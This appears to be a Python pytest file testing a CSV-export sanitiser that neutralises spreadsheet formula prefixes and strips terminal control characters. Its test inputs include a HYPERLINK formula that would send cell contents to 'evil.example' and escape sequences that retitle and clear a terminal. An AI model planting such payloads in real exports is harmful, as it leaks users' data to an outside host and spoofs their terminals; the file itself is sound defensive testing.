"""CSV cells: formula-like report text in CSV exports."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from hyreka_plugin_amazon.refhost.safety.csvcells import csv_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
        "+49 221 5550101",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_formula_prefixes_are_neutralised(text: str) -> None:
    cell = csv_cell(text)
    shown = text.replace("\t", " ").replace("\r", " ")  # a cell is one line
    assert cell == "'" + shown
    out = io.StringIO()
    csv.writer(out).writerow([cell])
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == "'" + shown


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("Tasse\x1b]0;OWNED\x07\x1b[2J", "Tasse]0;OWNED[2J"),  # title, clear screen
        ("Köln\u202enloK", "KölnnloK"),  # direction override
        ("SKU\x9b2J", "SKU2J"),  # the 8-bit CSI
        ("Hauptstraße 5\nHinterhaus", "Hauptstraße 5 Hinterhaus"),
        ("a\u2028b\x85c\td", "a b c d"),
        ("\x1b=1+1", "'=1+1"),  # removed first, then neutralised
        ("Zwölf\u200bBreit", "ZwölfBreit"),
    ],
)
def test_control_characters_are_removed_from_cells(text: str, cell: str) -> None:
    """Issue 25 item 3: a CSV on stdout goes to a terminal."""
    assert csv_cell(text) == cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Kaffeetasse „Grüße aus Köln“", "Kaffeetasse „Grüße aus Köln“"),
        ("Müller & Söhne GmbH", "Müller & Söhne GmbH"),
        (None, ""),
        (Decimal("-2.00"), "-2.00"),
        (3, "3"),
        ("Kaffee\x00tasse", "Kaffeetasse"),
    ],
)
def test_plain_text_and_numbers_are_kept(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
